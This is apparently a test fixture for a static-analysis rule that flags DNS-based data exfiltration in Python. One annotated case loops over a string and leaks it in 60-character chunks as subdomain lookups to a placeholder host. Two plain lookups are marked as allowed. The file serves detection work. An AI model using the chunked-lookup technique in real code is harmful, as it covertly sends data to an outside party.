import socket
for i in range(0, len(t), 60):
    # ruleid: exfiltration-dns-name
    socket.gethostbyname(f"{t[i:i + 60]}.x.invalid")
# ok: exfiltration-dns-name
socket.gethostbyname("api.acme.invalid")
# ok: exfiltration-dns-name
socket.getaddrinfo(host, 443)
